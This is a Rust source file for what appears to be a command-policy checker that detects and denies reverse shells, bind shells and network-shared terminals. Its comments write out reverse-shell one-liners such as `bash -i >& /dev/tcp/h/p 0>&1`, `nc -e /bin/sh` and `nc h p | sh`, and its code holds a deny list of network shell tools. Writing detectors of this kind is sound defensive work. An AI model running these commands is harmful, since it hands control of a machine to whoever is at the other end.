//! Reverse and bind shells: a shell (or interpreter) whose commands come
//! from, and whose output goes to, a network connection — whoever is at
//! the other end runs commands on this machine. Judged by effect, as the
//! SDK's [`clawlaw_sdk::effects`] model reads the line:
//!
//! - one command both opens a raw connection and runs an interactive shell
//!   (`nc -e /bin/sh`, `ncat --sh-exec 'bash -i'`, `socat EXEC:bash
//!   TCP:h:p`, inline code that connects a socket and spawns a shell:
//!   `socket.connect` + `pty.spawn`, `fsockopen` + `exec("/bin/sh -i")`);
//! - one pipeline joins a raw connection and a shell that reads its
//!   commands from its input (`nc h p | sh`, `sh -i 2>&1 | nc h p`, the
//!   `mkfifo` relay);
//! - a shell whose standard streams are bash's `/dev/tcp/HOST/PORT`
//!   (`bash -i >& /dev/tcp/h/p 0>&1`), or a line that opens such a
//!   descriptor with `exec` and runs a shell or a run-time command;
//! - a terminal served on the network or shared through a relay: a web
//!   terminal running a shell (`ttyd -p 8080 bash`, `gotty -w bash`,
//!   `websocketd --port=8080 sh`), `tmate`, `upterm host`, `sshx`.

use clawlaw_sdk::effects::{self, Effects, Exec};
use clawlaw_sdk::shell::{CommandKind, CommandLine};

use crate::checker::Checker;
use crate::exec::reads_stdin_code;
use crate::programs::{is_interpreter, is_shell, show};

const RULE: &str = "shell.reverse-shell";

impl Checker<'_> {
    /// Denies the reverse and bind shells of `cl`. `fx` holds the line's
    /// effects once a check of the line has analysed them.
    pub(crate) fn check_reverse_shell(&mut self, cl: &CommandLine, fx: &mut Option<Effects>) {
        let raw_net = |p: &str| {
            matches!(
                p,
                "nc" | "ncat" | "netcat" | "socat" | "telnet" | "cryptcat" | "openssl"
            )
        };
        let dev_net = cl
            .commands
            .iter()
            .any(|c| c.redirects.iter().any(|r| is_dev_net(&r.target.text)));
        self.shared_terminal(cl);
        let candidate = dev_net
            || cl.commands.iter().any(|c| {
                c.kind == CommandKind::Simple
                    && !c.program_dynamic
                    && (raw_net(&c.program) || is_interpreter(&c.program) && !is_shell(&c.program))
            });
        if !candidate {
            return;
        }
        let fx = fx.get_or_insert_with(|| effects::analyze(cl, self.cwd_text.as_deref(), None));
        self.connection_runs_shell(cl, fx);
        self.pipeline_joins_shell(cl, fx);
        if dev_net {
            self.shell_on_dev_tcp(cl);
        }
    }

    /// `nc -e /bin/sh`, `socat EXEC:… TCP:…`, code's socket and shell.
    fn connection_runs_shell(&mut self, cl: &CommandLine, fx: &Effects) {
        for n in fx.network.iter().filter(|n| n.is_raw_socket()) {
            let i = n.command;
            let Some(c) = cl.commands.get(i) else {
                continue;
            };
            let spawned = fx
                .executes
                .iter()
                .find(|e| e.command == i && e.program != c.program && interactive(e));
            if let Some(e) = spawned {
                let to = n.host.as_deref().unwrap_or("a network peer");
                self.deny(
                    RULE,
                    format!(
                        "`{}` connects `{}` to {to} ({}): whoever is at the other end runs commands here",
                        show(c),
                        e.program,
                        n.program
                    ),
                );
            }
        }
    }

    /// `nc h p | sh`, `sh -i 2>&1 | nc h p`.
    fn pipeline_joins_shell(&mut self, cl: &CommandLine, fx: &Effects) {
        for p in &cl.pipelines {
            let net = p.commands.iter().copied().find(|&k| {
                fx.network
                    .iter()
                    .any(|n| n.command == k && n.is_raw_socket())
            });
            let shell = p.commands.iter().copied().find(|&k| {
                let c = &cl.commands[k];
                !c.program_dynamic && is_shell(&c.program) && reads_stdin_code(c)
            });
            if let (Some(n), Some(s)) = (net, shell) {
                self.deny(
                    RULE,
                    format!(
                        "`{}` and `{}` in one pipeline: a shell reads its commands from a network connection",
                        show(&cl.commands[n]),
                        show(&cl.commands[s])
                    ),
                );
            }
        }
    }

    /// `bash -i >& /dev/tcp/h/p 0>&1`; `exec 5<>/dev/tcp/h/p` then a shell.
    fn shell_on_dev_tcp(&mut self, cl: &CommandLine) {
        let runs_commands = cl.commands.iter().any(|c| {
            c.kind == CommandKind::Simple
                && (c.program_dynamic || is_shell(&c.program) && reads_stdin_code(c))
        });
        for c in &cl.commands {
            let Some(r) = c.redirects.iter().find(|r| is_dev_net(&r.target.text)) else {
                continue;
            };
            let shell = !c.program_dynamic && is_interpreter(&c.program);
            let opens_fd = c.argv.is_empty() || c.program == "exec";
            if shell || opens_fd && runs_commands {
                self.deny(
                    RULE,
                    format!(
                        "`{}` gives a shell the network connection {} as its input or output: whoever is at the other end runs commands here",
                        show(c),
                        r.target.text
                    ),
                );
            }
        }
    }

    /// `ttyd -p 8080 bash`, `tmate`: a shell anyone who reaches the port,
    /// or the relay's session, types into.
    fn shared_terminal(&mut self, cl: &CommandLine) {
        for c in cl.commands.iter().filter(|c| !c.program_dynamic) {
            let words: Vec<&str> = c.args().iter().map(|w| w.text.as_str()).collect();
            let serves_shell = || {
                words.iter().any(|w| {
                    let program = w.rsplit('/').next().unwrap_or(w);
                    is_shell(program) || is_interpreter(program) || program == "login"
                })
            };
            let shared = match c.program.as_str() {
                "ttyd" | "gotty" | "websocketd" | "wetty" => serves_shell(),
                // With no program named they serve a login shell.
                "shellinaboxd" => true,
                "tmate" | "sshx" => !words
                    .iter()
                    .any(|w| matches!(*w, "-V" | "--version" | "-h" | "--help")),
                "upterm" => words.first() == Some(&"host"),
                _ => false,
            };
            if shared {
                self.deny(
                    RULE,
                    format!(
                        "`{}` serves a shell to whoever reaches it over the network: they run commands here",
                        show(c)
                    ),
                );
            }
        }
    }
}

/// bash's network pseudo-files.
fn is_dev_net(target: &str) -> bool {
    target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/")
}

/// A shell or interpreter started to read commands (no `-c` string, no
/// inline code, no script named; `nc -e /bin/sh` names the shell itself).
fn interactive(e: &Exec) -> bool {
    is_interpreter(&e.program)
        && e.code.is_none()
        && !e.args.iter().any(|a| a == "-c" || !a.starts_with('-'))
}
